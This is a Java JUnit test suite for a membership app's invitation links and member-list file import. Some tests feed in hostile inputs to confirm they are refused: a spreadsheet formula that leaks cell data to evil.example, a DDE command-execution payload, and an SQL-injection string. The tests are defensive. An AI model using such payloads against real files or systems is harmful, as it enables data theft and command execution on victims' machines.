package org.unionhall.application;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.persistence.EntityManager;
import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.AfterParameterizedClassInvocation;
import org.junit.jupiter.params.BeforeParameterizedClassInvocation;
import org.junit.jupiter.params.Parameter;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.provider.EnumSource;
import org.unionhall.application.installation.DefaultInstallationService;
import org.unionhall.application.installation.FoundInstallation;
import org.unionhall.application.installation.FoundedInstallation;
import org.unionhall.domain.account.SignInAccount;
import org.unionhall.domain.account.SignInToken;
import org.unionhall.domain.mail.MailCategory;
import org.unionhall.domain.mail.MailStatus;
import org.unionhall.domain.mail.OutgoingMail;
import org.unionhall.domain.membership.Invitation;
import org.unionhall.domain.membership.InvitationStatus;
import org.unionhall.domain.membership.Member;
import org.unionhall.domain.membership.MemberId;
import org.unionhall.domain.membership.MembershipStatus;
import org.unionhall.domain.privacy.Retention;
import org.unionhall.domain.shared.AccessDenied;
import org.unionhall.domain.shared.InvalidInput;
import org.unionhall.domain.shared.RuleViolation;
import org.unionhall.infrastructure.crypto.Argon2PasswordHasher;
import org.unionhall.infrastructure.persistence.JpaInstallations;
import org.unionhall.infrastructure.persistence.JpaInvitations;
import org.unionhall.infrastructure.persistence.JpaOutbox;
import org.unionhall.infrastructure.persistence.JpaPersonalData;
import org.unionhall.infrastructure.persistence.JpaSignInSessions;
import org.unionhall.infrastructure.persistence.JpaTwoFactors;
import org.unionhall.infrastructure.throttle.InMemorySignInThrottle;
import org.unionhall.testsupport.ManualClock;
import org.unionhall.testsupport.TestDatabase;

/**
 * Invitations and the import of a member list, on a real database, as a steward and the people
 * they invite would use them: the link in the mail makes the account and the membership once;
 * expired, withdrawn, reused and forged links are refused with their reason and change nothing;
 * the same link used twice at once makes one account; an address that has an account joins after
 * signing in; a file's rows are checked one by one and the same file imported twice invites
 * nobody twice; a file too long or not UTF-8 is refused with its reason, and cells a spreadsheet
 * reads as formulas where they enter; settled invitations go after 90 days; a member's data page
 * shows their invitations and erasing them deletes every invitation that names them. Each test
 * uses its own people.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@ParameterizedClass(name = "on {0}")
@EnumSource(TestDatabase.Kind.class)
class InvitationContract {
    static final Instant START = Instant.parse("2026-05-04T08:00:00Z");
    static final String PASSWORD = "a-lantern-by-the-river";
    static final Pattern LINK = Pattern.compile(
            "https://union\\.example/invitation/accept\\.xhtml\\?token=([A-Za-z0-9_-]{43})");

    @Parameter
    TestDatabase.Kind database;

    TestDatabase db;
    ManualClock clock;
    Stores stores;
    JpaOutbox outbox;
    InvitationService invitations;
    SignInService signIn;
    FoundedInstallation founded;
    Actor steward;
    String chapter;

    @BeforeParameterizedClassInvocation(injectArguments = false)
    void open() {
        db = TestDatabase.of(database);
        clock = new ManualClock(START);
        stores = db.stores(clock);
        outbox = new JpaOutbox(db.em());
        Argon2PasswordHasher hasher = new Argon2PasswordHasher();
        invitations = service(db.em());
        signIn = new DefaultSignInService(stores, hasher, new InMemorySignInThrottle(),
                new JpaSignInSessions(db.em()), new JpaTwoFactors(db.em()));
        founded = db.tx(() -> new DefaultInstallationService(stores, new JpaInstallations(db.em()), hasher)
                .foundAtConsole(new FoundInstallation("Test Federation", "Riders' Union", "riders", "Lisbon",
                        "Stella Steward", "stella@union.example", "stella-keeps-the-keys".toCharArray())));
        steward = new Actor(MemberId.of(founded.stewardId()));
        chapter = founded.chapterSlug();
    }

    InvitationService service(EntityManager em) {
        Stores on = TestDatabase.stores(em, clock);
        return new DefaultInvitationService(on, new JpaInvitations(em), new JpaOutbox(em),
                new AccountOpening(on, new Argon2PasswordHasher()), new PublicAddress("https://union.example/"));
    }

    @AfterParameterizedClassInvocation(injectArguments = false)
    void close() {
        db.close();
    }

    InvitationBatch invite(String... namesAndAddresses) {
        List<Invitee> people = new ArrayList<>();
        for (int i = 0; i < namesAndAddresses.length; i += 2) {
            people.add(new Invitee(i / 2 + 1, namesAndAddresses[i], namesAndAddresses[i + 1]));
        }
        return db.tx(() -> invitations.invite(steward, chapter, people));
    }

    OutgoingMail invitationTo(String address) {
        List<OutgoingMail> mails = db.tx(() -> outbox.withStatus(MailStatus.PENDING, 0, 10_000)).stream()
                .filter(m -> m.recipient().equals(address) && m.subject().contains("invites you")).toList();
        assertFalse(mails.isEmpty(), "an invitation was mailed to " + address);
        return mails.get(0);
    }

    String tokenFor(String address) {
        OutgoingMail mail = invitationTo(address);
        Matcher link = LINK.matcher(mail.body());
        assertTrue(link.find(), mail.body());
        return link.group(1);
    }

    long rows(String sql) throws SQLException {
        try (Connection c = db.jdbc(); Statement s = c.createStatement(); ResultSet r = s.executeQuery(sql)) {
            r.next();
            return r.getLong(1);
        }
    }

    boolean signsIn(String email, String password, String client) {
        return db.tx(() -> signIn.signIn(email, password.toCharArray(), client, null)) instanceof SignInOutcome.SignedIn;
    }

    MembershipStatus statusIn(String email) {
        Member m = db.tx(() -> stores.members().findByEmail(email)).orElseThrow();
        return db.tx(() -> stores.memberships().find(m.id(), stores.chapters().findBySlug(chapter).orElseThrow().id()))
                .orElseThrow().status();
    }

    List<String> pendingAddresses() {
        return db.tx(() -> invitations.pending(steward, chapter, 0, 100)).items().stream()
                .map(PendingInvitationView::email).toList();
    }

    @Test
    void aStewardInvitesTwoPeopleAndEachLinkMakesTheAccountAndTheMembershipOnce() throws SQLException {
        long members = rows("SELECT COUNT(*) FROM union_member");
        InvitationBatch sent = invite("Ada Lovelace", " Ada@Union.Example ", "Bo Brandt", "bo@union.example");
        assertEquals(2, sent.invited());
        assertEquals(List.of("ada@union.example", "bo@union.example"),
                sent.rows().stream().map(InvitationRow::email).toList());
        OutgoingMail mail = invitationTo("ada@union.example");
        assertEquals(MailCategory.SECURITY, mail.category(), "sent whatever preferences");
        assertTrue(mail.subject().contains("Stella Steward invites you to join Lisbon"), mail.subject());
        assertTrue(mail.body().contains("Riders' Union"), mail.body());
        String ada = tokenFor("ada@union.example");
        assertEquals(0, rows("SELECT COUNT(*) FROM invitation WHERE token_digest = '" + ada + "'"));
        assertEquals(1, rows("SELECT COUNT(*) FROM invitation WHERE token_digest = '"
                + new SignInToken(ada).digest() + "'"), "only the token's digest is kept");
        assertTrue(pendingAddresses().containsAll(List.of("ada@union.example", "bo@union.example")));

        OpenInvitation open = db.tx(() -> invitations.open(ada));
        assertEquals("Lisbon", open.chapterName());
        assertEquals("Ada Lovelace", open.displayName());
        assertFalse(open.hasAccount());

        InvalidInput weak = assertThrows(InvalidInput.class, () -> db.tx(() -> invitations.accept(ada, "Ada",
                "password123".toCharArray())));
        assertTrue(weak.getMessage().contains("common"), weak.getMessage());
        assertEquals(members, rows("SELECT COUNT(*) FROM union_member"), "a refused password makes nobody");

        AcceptedInvitation accepted = db.tx(() -> invitations.accept(ada, "Ada L.", PASSWORD.toCharArray()));
        assertEquals("ada@union.example", accepted.email());
        assertEquals(MembershipStatus.ACTIVE, statusIn("ada@union.example"));
        assertEquals("Ada L.", db.tx(() -> stores.members().findByEmail("ada@union.example")).orElseThrow()
                .displayName());
        assertTrue(signsIn("ada@union.example", PASSWORD, "198.51.100.1"));
        assertEquals(members + 1, rows("SELECT COUNT(*) FROM union_member"));
        assertEquals(1, rows("SELECT COUNT(*) FROM audit_entry WHERE action = 'INVITATION_ACCEPTED' AND subject_id = '"
                + accepted.memberId() + "'"));
        assertEquals(List.of("bo@union.example"), pendingAddresses().stream()
                .filter(a -> a.equals("ada@union.example") || a.equals("bo@union.example")).toList());

        RuleViolation again = assertThrows(RuleViolation.class, () -> db.tx(() -> invitations.accept(ada, "Ada 2",
                "another-lantern-2026".toCharArray())));
        assertTrue(again.getMessage().contains("used already"), again.getMessage());
        assertEquals(members + 1, rows("SELECT COUNT(*) FROM union_member"));
        assertTrue(signsIn("ada@union.example", PASSWORD, "198.51.100.2"), "the password stays the first one");

        db.tx(() -> invitations.accept(tokenFor("bo@union.example"), "", PASSWORD.toCharArray()));
        assertEquals("Bo Brandt", db.tx(() -> stores.members().findByEmail("bo@union.example")).orElseThrow()
                .displayName(), "a blank name keeps the steward's");
        assertEquals(MembershipStatus.ACTIVE, statusIn("bo@union.example"));

        Actor bo = new Actor(db.tx(() -> stores.members().findByEmail("bo@union.example")).orElseThrow().id());
        assertThrows(AccessDenied.class, () -> db.tx(() -> invitations.invite(bo, chapter,
                List.of(new Invitee(1, "Cy", "cy@union.example")))), "a plain member invites nobody");
        assertThrows(AccessDenied.class, () -> db.tx(() -> invitations.pending(bo, chapter, 0, 10)));
    }

    @Test
    void expiredWithdrawnAndForgedLinksAreRefusedWithTheirReasonAndChangeNothing() throws SQLException {
        invite("Dee", "dee@union.example", "Eve", "eve@union.example");
        String dee = tokenFor("dee@union.example");
        String eve = tokenFor("eve@union.example");
        long members = rows("SELECT COUNT(*) FROM union_member");

        InvalidInput forged = assertThrows(InvalidInput.class, () -> db.tx(() -> invitations.accept("A".repeat(43),
                "Mallory", PASSWORD.toCharArray())));
        assertEquals(Invitation.NOT_VALID, forged.getMessage());
        assertThrows(InvalidInput.class, () -> db.tx(() -> invitations.open("' OR 1=1 --")));
        assertThrows(InvalidInput.class, () -> db.tx(() -> invitations.open(null)));

        String id = db.tx(() -> invitations.pending(steward, chapter, 0, 100)).items().stream()
                .filter(p -> p.email().equals("eve@union.example")).findFirst().orElseThrow().id();
        db.run(() -> invitations.withdraw(steward, chapter, id));
        RuleViolation withdrawn = assertThrows(RuleViolation.class, () -> db.tx(() -> invitations.accept(eve, "Eve",
                PASSWORD.toCharArray())));
        assertTrue(withdrawn.getMessage().contains("withdrawn"), withdrawn.getMessage());
        RuleViolation twice = assertThrows(RuleViolation.class, () -> db.run(() -> invitations.withdraw(steward,
                chapter, id)));
        assertTrue(twice.getMessage().contains("already withdrawn"), twice.getMessage());
        assertFalse(pendingAddresses().contains("eve@union.example"));

        clock.advance(Duration.ofDays(14));
        try {
            RuleViolation expired = assertThrows(RuleViolation.class, () -> db.tx(() -> invitations.open(dee)));
            assertTrue(expired.getMessage().contains("expired"), expired.getMessage());
            assertThrows(RuleViolation.class, () -> db.tx(() -> invitations.accept(dee, "Dee", PASSWORD.toCharArray())));
            assertEquals(members, rows("SELECT COUNT(*) FROM union_member"), "nobody was made");

            InvitationBatch preview = db.tx(() -> invitations.preview(steward, chapter,
                    List.of(new Invitee(1, "Dee", "dee@union.example"), new Invitee(2, "Eve", "eve@union.example"))));
            assertEquals(2, preview.ready(), "an expired or withdrawn invitation does not stand in the way: "
                    + preview.rows());
            invite("Dee", "dee@union.example");
            String fresh = tokenFor("dee@union.example");
            assertNotEquals(dee, fresh, "the newest mail carries the new link");
            db.tx(() -> invitations.accept(fresh, "Dee", PASSWORD.toCharArray()));
            assertEquals(MembershipStatus.ACTIVE, statusIn("dee@union.example"));
            RuleViolation old = assertThrows(RuleViolation.class, () -> db.tx(() -> invitations.open(dee)));
            assertTrue(old.getMessage().contains("expired"), old.getMessage());
        } finally {
            clock.set(START);
        }
    }

    @Test
    void oneLinkUsedTwiceAtTheSameMomentMakesOneAccount() throws Exception {
        invite("Fay", "fay@union.example");
        String token = tokenFor("fay@union.example");
        List<String> outcomes = db.twiceAtOnce((em, i) -> {
            String password = "fay-chose-this-one-" + i;
            service(em).accept(token, "Fay", password.toCharArray());
            return password;
        });
        List<String> made = outcomes.stream().filter(o -> o.startsWith("fay-chose-this-one-")).toList();
        assertEquals(1, made.size(), "one use makes the account: " + outcomes);
        assertTrue(outcomes.stream().anyMatch(o -> o.contains("used already") || o.contains("account uses")),
                outcomes::toString);
        assertEquals(1, rows("SELECT COUNT(*) FROM union_member WHERE email = 'fay@union.example'"));
        assertTrue(signsIn("fay@union.example", made.get(0), "198.51.100.20"));
    }

    @Test
    void anAddressThatHasAnAccountJoinsWithItAfterSigningIn() throws SQLException {
        Member gil = db.tx(() -> {
            Member m = new Member("Gil", "gil@union.example", "en", clock.instant());
            stores.members().add(m);
            return m;
        });
        db.run(() -> stores.accounts().add(new SignInAccount(gil.id(),
                new Argon2PasswordHasher().hash(PASSWORD.toCharArray()), clock.instant())));
        invite("Gil", "gil@union.example", "Hal", "hal@union.example");
        assertTrue(invitationTo("gil@union.example").body().contains("already has a Unionhall account"));
        String token = tokenFor("gil@union.example");
        assertTrue(db.tx(() -> invitations.open(token)).hasAccount());

        RuleViolation signedOut = assertThrows(RuleViolation.class, () -> db.tx(() -> invitations.accept(token, "Gil",
                "a-new-password-for-gil".toCharArray())));
        assertTrue(signedOut.getMessage().contains("Sign in"), signedOut.getMessage());
        assertTrue(signsIn("gil@union.example", PASSWORD, "198.51.100.30"), "nobody replaced Gil's password");

        db.tx(() -> invitations.accept(tokenFor("hal@union.example"), "Hal", PASSWORD.toCharArray()));
        Actor hal = new Actor(db.tx(() -> stores.members().findByEmail("hal@union.example")).orElseThrow().id());
        RuleViolation other = assertThrows(RuleViolation.class, () -> db.tx(() -> invitations.join(hal, token)));
        assertTrue(other.getMessage().contains("another e-mail address"), other.getMessage());

        AcceptedInvitation joined = db.tx(() -> invitations.join(new Actor(gil.id()), token));
        assertEquals(chapter, joined.chapterSlug());
        assertEquals(MembershipStatus.ACTIVE, statusIn("gil@union.example"));
        assertThrows(RuleViolation.class, () -> db.tx(() -> invitations.join(new Actor(gil.id()), token)));
    }

    @Test
    void aFilesRowsAreCheckedOneByOneAndTheSameFileTwiceInvitesNobodyTwice() throws SQLException {
        invite("Ivy", "ivy@union.example");
        String file = """
                name;e-mail
                Jo Jansen;jo@union.example
                "Kai, the second";KAI@union.example
                Lee;
                Mo;not-an-address
                Jo again;jo@union.example
                %s;long@union.example
                Stella;stella@union.example
                Ivy;ivy@union.example
                ;nameless@union.example

                "Ned ""the quote\""";ned@union.example
                """.formatted("x".repeat(81));
        InvitationBatch preview = db.tx(() -> invitations.previewFile(steward, chapter, utf8(file)));
        assertEquals(0, preview.invited());
        assertEquals(List.of(2, 3, 4, 5, 6, 7, 8, 9, 10, 12), preview.rows().stream().map(InvitationRow::row).toList(),
                "rows named by their line in the file");
        assertNull(preview.rows().get(0).problem());
        assertEquals("Kai, the second", preview.rows().get(1).name());
        assertEquals("kai@union.example", preview.rows().get(1).email());
        assertEquals("No e-mail address.", preview.rows().get(2).problem());
        assertTrue(preview.rows().get(3).problem().contains("is not an e-mail address"));
        assertEquals("The same address is on row 2.", preview.rows().get(4).problem());
        assertTrue(preview.rows().get(5).problem().contains("too long"));
        assertEquals("Already a member of Lisbon.", preview.rows().get(6).problem());
        assertTrue(preview.rows().get(7).problem().startsWith("Already invited on 4 May 2026"),
                preview.rows().get(7).problem());
        assertEquals("No name.", preview.rows().get(8).problem());
        assertEquals("Ned \"the quote\"", preview.rows().get(9).name());
        assertEquals(3, preview.ready());
        long invitationsBefore = rows("SELECT COUNT(*) FROM invitation");
        long mailsBefore = rows("SELECT COUNT(*) FROM outgoing_mail");
        assertEquals(invitationsBefore, rows("SELECT COUNT(*) FROM invitation"), "a preview invites nobody");

        InvitationBatch sent = db.tx(() -> invitations.inviteFile(steward, chapter, utf8(file)));
        assertEquals(3, sent.invited());
        assertEquals(invitationsBefore + 3, rows("SELECT COUNT(*) FROM invitation"));
        assertEquals(mailsBefore + 3, rows("SELECT COUNT(*) FROM outgoing_mail"));
        assertEquals(1, rows("SELECT COUNT(*) FROM audit_entry WHERE action = 'INVITATION_SENT' AND detail = "
                + "'Sent 3 invitations to Lisbon'"), "one audit entry that names nobody");

        RuleViolation again = assertThrows(RuleViolation.class, () -> db.tx(() -> invitations.inviteFile(steward,
                chapter, utf8(file))));
        assertTrue(again.getMessage().startsWith("Nobody was invited"), again.getMessage());
        assertEquals(invitationsBefore + 3, rows("SELECT COUNT(*) FROM invitation"), "nobody invited twice");
        assertEquals(mailsBefore + 3, rows("SELECT COUNT(*) FROM outgoing_mail"));
        InvitationBatch secondLook = db.tx(() -> invitations.previewFile(steward, chapter, utf8(file)));
        assertEquals(0, secondLook.ready());
    }

    @Test
    void aFileTooLongOrNotUtf8IsRefusedWithItsReasonBeforeItIsReadWhole() throws SQLException {
        long invitationsBefore = rows("SELECT COUNT(*) FROM invitation");
        CountingRows huge = new CountingRows(100_000);
        InvalidInput tooLong = assertThrows(InvalidInput.class, () -> db.tx(() -> invitations.inviteFile(steward,
                chapter, huge)));
        assertEquals(InviteeFile.TOO_MANY, tooLong.getMessage());
        assertTrue(huge.served < huge.total / 10, "read " + huge.served + " of " + huge.total + " bytes");

        byte[] latin1 = "name,email\nZoë Zander,zoe@union.example\n".getBytes(StandardCharsets.ISO_8859_1);
        InvalidInput notUtf8 = assertThrows(InvalidInput.class, () -> db.tx(() -> invitations.previewFile(steward,
                chapter, new ByteArrayInputStream(latin1))));
        assertEquals(InviteeFile.NOT_UTF8, notUtf8.getMessage());
        assertThrows(InvalidInput.class, () -> db.tx(() -> invitations.previewFile(steward, chapter, utf8("\n\n"))));
        assertEquals(invitationsBefore, rows("SELECT COUNT(*) FROM invitation"));

        InvitationBatch accents = db.tx(() -> invitations.previewFile(steward, chapter,
                utf8("\uFEFFZoë Zander,zoe@union.example\r\n")));
        assertEquals("Zoë Zander", accents.rows().get(0).name(), "UTF-8 with a byte order mark, CRLF lines");
        assertEquals(1, accents.ready());
    }

    @Test
    void settledInvitationsAreDeletedNinetyDaysLaterByTheRetentionJob() throws SQLException {
        invite("Ola", "ola@union.example", "Ona", "ona@union.example");
        String id = db.tx(() -> invitations.pending(steward, chapter, 0, 100)).items().stream()
                .filter(p -> p.email().equals("ola@union.example")).findFirst().orElseThrow().id();
        db.run(() -> invitations.withdraw(steward, chapter, id));
        RetentionService retention = new DefaultRetentionService(new JpaPersonalData(db.em()), new TimeSource(clock));
        try {
            clock.advance(Duration.ofDays(89));
            db.tx(retention::forgetExpired);
            assertEquals(1, rows("SELECT COUNT(*) FROM invitation WHERE email = 'ola@union.example'"));
            clock.advance(Duration.ofDays(2));
            assertTrue(db.tx(retention::forgetExpired).get(Retention.SETTLED_INVITATIONS) >= 1);
            assertEquals(0, rows("SELECT COUNT(*) FROM invitation WHERE email = 'ola@union.example'"),
                    "withdrawn 91 days ago");
            assertEquals(1, rows("SELECT COUNT(*) FROM invitation WHERE email = 'ona@union.example'"),
                    "expired, still marked pending, 77 days ago");
            clock.advance(Duration.ofDays(14));
            db.tx(retention::forgetExpired);
            assertEquals(0, rows("SELECT COUNT(*) FROM invitation WHERE email = 'ona@union.example'"),
                    "expired 91 days ago, though nobody marked it so");
        } finally {
            clock.set(START);
        }
    }

    @Test
    void cellsASpreadsheetWouldReadAsFormulasAreRefusedWhereTheyEnter() throws SQLException {
        long invitationsBefore = rows("SELECT COUNT(*) FROM invitation");
        InvitationBatch preview = db.tx(() -> invitations.previewFile(steward, chapter, utf8("""
                =HYPERLINK("https://evil.example/?"&A1;formula@union.example
                +31 Plus;plus@union.example
                -Minus;minus@union.example
                @SUM(A1);at@union.example
                Calc Cell;=1+1@union.example
                Rae Ready;rae@union.example
                """)));
        List<String> problems = preview.rows().stream().map(InvitationRow::problem).toList();
        for (int row = 0; row < 5; row++) {
            assertTrue(problems.get(row) != null && problems.get(row).contains("formula"), problems.toString());
        }
        assertNull(problems.get(5));
        assertEquals(1, preview.ready());
        var lisbon = db.tx(() -> stores.chapters().findBySlug(chapter)).orElseThrow();
        InvalidInput refused = assertThrows(InvalidInput.class, () -> new Invitation(lisbon, "=cmd|' /C calc'!A0",
                "cmd@union.example", steward.memberId(), SignInToken.generate().digest(), clock.instant()));
        assertTrue(refused.getMessage().contains("formula"), refused.getMessage());
        assertThrows(InvalidInput.class, () -> new Invitation(lisbon, "Ann", "not an address", steward.memberId(),
                SignInToken.generate().digest(), clock.instant()), "the aggregate refuses what the row check refuses");
        assertEquals(invitationsBefore, rows("SELECT COUNT(*) FROM invitation"));
    }

    @Test
    void aMembersDataPageShowsTheirInvitationsAndErasingThemDeletesEveryInvitationThatNamesThem()
            throws SQLException {
        invite("Uma Unger", "uma@union.example");
        String umaLink = tokenFor("uma@union.example");
        AcceptedInvitation accepted = db.tx(() -> invitations.accept(umaLink, "Uma U.", PASSWORD.toCharArray()));
        Actor uma = new Actor(MemberId.of(accepted.memberId()));
        PrivacyService privacy = new DefaultPrivacyService(stores, new JpaPersonalData(db.em()),
                new Argon2PasswordHasher(), new InMemorySignInThrottle());

        MyDataView hers = db.tx(() -> privacy.myData(uma));
        assertEquals(1, hers.invitationsReceived().size());
        MyDataView.InvitationReceived received = hers.invitationsReceived().get(0);
        assertEquals("Lisbon", received.chapter());
        assertEquals("Uma Unger", received.nameGiven());
        assertEquals("Stella Steward", received.invitedBy());
        assertEquals(InvitationStatus.ACCEPTED, received.status());
        assertTrue(MyDataExport.json(hers, clock.instant()).toString().contains("uma@union.example"));

        MyDataView stewards = db.tx(() -> privacy.myData(steward));
        assertFalse(stewards.invitationsSent().isEmpty(), "the steward sees the invitations they sent");
        String stewardsExport = MyDataExport.json(stewards, clock.instant()).toString();
        assertTrue(stewardsExport.contains("invitationsSent"), stewardsExport);
        assertFalse(stewardsExport.contains("uma@union.example") || stewardsExport.contains("Uma Unger"),
                "the people a steward invited are not in the steward's export");

        db.tx(() -> privacy.erase(uma, PASSWORD));
        assertEquals(0, rows("SELECT COUNT(*) FROM invitation WHERE email = 'uma@union.example' "
                + "OR display_name = 'Uma Unger' OR member_id = '" + accepted.memberId() + "'"),
                "nothing of the invitation that named her is left");
    }

    static InputStream utf8(String text) {
        return new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8));
    }

    /** A file of many rows made as it is read, counting the bytes read. */
    static final class CountingRows extends InputStream {
        final long total;
        long served;
        private final byte[] row = "Someone Somebody,someone@union.example\n".getBytes(StandardCharsets.US_ASCII);

        CountingRows(int rows) {
            this.total = (long) rows * row.length;
        }

        @Override
        public int read() {
            if (served >= total) {
                return -1;
            }
            return row[(int) (served++ % row.length)];
        }
    }
}
